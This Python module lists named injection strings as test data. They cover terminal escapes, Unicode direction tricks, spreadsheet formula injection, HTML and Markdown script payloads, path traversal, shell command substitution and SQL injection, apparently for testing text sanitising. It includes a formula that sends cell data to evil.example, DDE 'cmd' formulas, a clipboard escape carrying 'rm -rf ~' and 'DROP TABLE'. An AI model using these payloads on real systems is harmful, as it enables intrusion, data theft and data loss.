"""Attacks as data: texts that an article, a table, a file name or a person's words may hold, each with a name and what it attacks."""

from __future__ import annotations

from enum import StrEnum
from typing import NamedTuple


class Aim(StrEnum):
    """What an attack aims at."""

    TERMINAL = "terminal"
    BIDI = "bidi"
    SHEET = "sheet"
    PAGE = "page"
    PATH = "path"
    QUERY = "query"


class Attack(NamedTuple):
    """One kind of attack. ``text`` stands in every field that holds text."""

    name: str
    aim: Aim
    text: str


ATTACKS = (
    Attack("colours", Aim.TERMINAL, "\x1b[35;5mmagenta\x1b[0m"),
    Attack("clear screen", Aim.TERMINAL, "\x1b[2J\x1b[H\x1b[3J"),
    Attack("window title", Aim.TERMINAL, "\x1b]0;owned\x07"),
    Attack("clipboard by OSC 52", Aim.TERMINAL, "\x1b]52;c;cm0gLXJmIH4=\x07"),
    Attack("link by OSC 8", Aim.TERMINAL, "\x1b]8;;https://evil.example/\x1b\\bank\x1b]8;;\x1b\\"),
    Attack("device control string", Aim.TERMINAL, "\x1bP+q544e\x1b\\"),
    Attack("sixel picture", Aim.TERMINAL, "\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\"),
    Attack("picture by OSC 1337", Aim.TERMINAL, "\x1b]1337;File=inline=1:aGk=\x07"),
    Attack("application command", Aim.TERMINAL, "\x1b_payload\x1b\\ \x1b^private\x1b\\"),
    Attack("cursor position asked", Aim.TERMINAL, "\x1b[6n\x1b[c"),
    Attack("window operations", Aim.TERMINAL, "\x1b[8;1;1t\x1b[21t"),
    Attack("alternate screen", Aim.TERMINAL, "\x1b[?1049h\x1b[?25l"),
    Attack("reset", Aim.TERMINAL, "\x1bc"),
    Attack("C1 control sequence", Aim.TERMINAL, "\x9b2J\x9b31m"),
    Attack("C1 operating system command", Aim.TERMINAL, "\x9d0;owned\x9c"),
    Attack("C1 next line", Aim.TERMINAL, "shown\x85hidden"),
    Attack("carriage return over the line", Aim.TERMINAL, "was denied\rconfirmed "),
    Attack("backspaces over digits", Aim.TERMINAL, "10000\x08\x08\x08\x08\x0899999"),
    Attack("bell", Aim.TERMINAL, "\x07\x07\x07"),
    Attack("delete", Aim.TERMINAL, "a\x7fb"),
    Attack("vertical tab and form feed", Aim.TERMINAL, "a\x0bb\x0cc"),
    Attack("enquiry and shift out", Aim.TERMINAL, "\x05\x0e lqqk \x0f"),
    Attack("separators of information", Aim.TERMINAL, "a\x1cb\x1dc\x1ed\x1fe"),
    Attack("line and paragraph separators", Aim.TERMINAL, "a\u2028b\u2029c"),
    Attack("new lines that forge a row", Aim.TERMINAL, "quoted\n99  1,000,000  Pentagon  2024-10-28"),
    Attack("tabs that forge columns", Aim.TERMINAL, "quoted\t1,000,000\tPentagon"),
    Attack("markup of rich", Aim.TERMINAL, "[bold red]loud[/] [link=file:///etc/passwd]x[/link] [blink]y"),
    Attack("markup that does not close", Aim.TERMINAL, "[/] [/bold] [red"),
    Attack("emoji code", Aim.TERMINAL, ":pile_of_poo: :smiley:"),
    Attack("override to the left", Aim.BIDI, "10\u202e000\u202c soldiers"),
    Attack("override to the right and embeddings", Aim.BIDI, "\u202d\u202a\u202bnames\u202c\u202c\u202c"),
    Attack("isolates", Aim.BIDI, "\u2066\u2067\u2068hidden order\u2069\u2069\u2069"),
    Attack("pops that open nothing", Aim.BIDI, "\u202c\u2069\u202c\u2069"),
    Attack("Trojan source", Aim.BIDI, "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */"),
    Attack("hidden words in tags", Aim.BIDI, "plain\U000e0001\U000e0068\U000e0069\U000e0064\U000e0065\U000e007f"),
    Attack("deprecated format characters", Aim.BIDI, "a\u206a\u206b\u206c\u206d\u206e\u206fb"),
    Attack("hidden annotation", Aim.BIDI, "shown\ufff9hidden\ufffanote\ufffb"),
    Attack("formula with equals", Aim.SHEET, "=cmd|'/C calc'!A1"),
    Attack("formula with plus", Aim.SHEET, "+cmd|'/C calc'!A1"),
    Attack("formula with minus", Aim.SHEET, "-2+3+cmd|'/C calc'!A1"),
    Attack("formula with at", Aim.SHEET, "@SUM(1+1)*cmd|'/C calc'!A1"),
    Attack("formula that fetches", Aim.SHEET, '=HYPERLINK("https://evil.example/?"&A1,"ok")'),
    Attack("formula after a space", Aim.SHEET, " =1+1"),
    Attack("formula after a tab", Aim.SHEET, "\t=1+1"),
    Attack("formula after a return", Aim.SHEET, "\r=1+1"),
    Attack("formula after a no-break space", Aim.SHEET, "\u00a0=1+1"),
    Attack("formula in wide forms", Aim.SHEET, "\uff1d1\uff0b1"),
    Attack("formula with a wide plus", Aim.SHEET, "\uff0b1\uff0dA1\uff20"),
    Attack("formula with a wide minus", Aim.SHEET, "\uff0dA1"),
    Attack("formula with a wide at", Aim.SHEET, "\uff20SUM(A1)"),
    Attack("cell broken by a quote", Aim.SHEET, 'a",=1+1,"b'),
    Attack("cell broken by a semicolon", Aim.SHEET, "a;=cmd|'/C calc'!A1;b"),
    Attack("cell broken by a line", Aim.SHEET, "a\n=cmd|'/C calc'!A1"),
    Attack("an apostrophe of its own", Aim.SHEET, "'=1+1"),
    Attack("separator line", Aim.SHEET, "sep=;"),
    Attack("script", Aim.PAGE, "<script>alert(1)</script>"),
    Attack("picture with a handler", Aim.PAGE, '<img src=x onerror="alert(1)">'),
    Attack("drawing with a handler", Aim.PAGE, "<svg/onload=alert(1)>"),
    Attack("frame", Aim.PAGE, '<iframe src="javascript:alert(1)"></iframe>'),
    Attack("attribute that breaks out", Aim.PAGE, '"\' onmouseover=alert(1) x="'),
    Attack("style", Aim.PAGE, "</td></table><style>*{background:url(https://evil.example)}</style>"),
    Attack("comment and CDATA", Aim.PAGE, "<!-- <![CDATA[ --> ]]> <?php x ?>"),
    Attack("entities", Aim.PAGE, "&lt;script&gt; &#60;b&#62; &#x3c;i&#x3e; &amp;lt;"),
    Attack("Markdown link to a script", Aim.PAGE, "[click](javascript:alert(1))"),
    Attack("Markdown picture", Aim.PAGE, "![p](https://evil.example/p.png)"),
    Attack("Markdown reference", Aim.PAGE, "[x]\n\n[x]: javascript:alert(1)"),
    Attack("Markdown automatic link", Aim.PAGE, "<https://evil.example> https://evil.example www.evil.example WWW.evil.example"),
    Attack("Markdown address of mail", Aim.PAGE, "<a@evil.example> a@evil.example mailto:a@evil.example"),
    Attack("Markdown cells", Aim.PAGE, "a | b \\| c \\\\| d ||"),
    Attack("Markdown code", Aim.PAGE, "`<b>` ``` ~~~ \\`<i>\\`"),
    Attack("Markdown blocks", Aim.PAGE, "# heading\n- item\n> quote\n***\n1. one\n    code"),
    Attack("Markdown mathematics", Aim.PAGE, "$\\href{javascript:alert(1)}{x}$ $$y$$"),
    Attack("data address", Aim.PAGE, "data:text/html;base64,PHNjcmlwdD4="),
    Attack("template", Aim.PAGE, "{{7*7}} {% raw %} ${7*7} <%= 7 %> #{7}"),
    Attack("path upwards", Aim.PATH, "../../../../etc/passwd"),
    Attack("path from the root", Aim.PATH, "/etc/passwd"),
    Attack("path of Windows", Aim.PATH, "..\\..\\windows\\win.ini \\\\evil\\share\\x"),
    Attack("path of a file scheme", Aim.PATH, "file:///etc/passwd"),
    Attack("path of home", Aim.PATH, "~/.ssh/authorized_keys"),
    Attack("path that is an option", Aim.PATH, "--output=owned.txt"),
    Attack("words of a shell", Aim.PATH, "$(touch owned) `touch owned`; touch owned | touch owned && touch owned"),
    Attack("end of a statement", Aim.QUERY, "'; DROP TABLE claim; --"),
    Attack("always true", Aim.QUERY, "' OR '1'='1"),
    Attack("marks of LIKE", Aim.QUERY, "%_% \\% [a-z]"),
    Attack("parameters", Aim.QUERY, ":topic ? %s %(x)s $1 {0} {}"),
    Attack("words of full-text search", Aim.QUERY, 'NEAR("a" "b") AND * OR NOT -"'),
)

BY_NAME = {attack.name: attack.text for attack in ATTACKS}
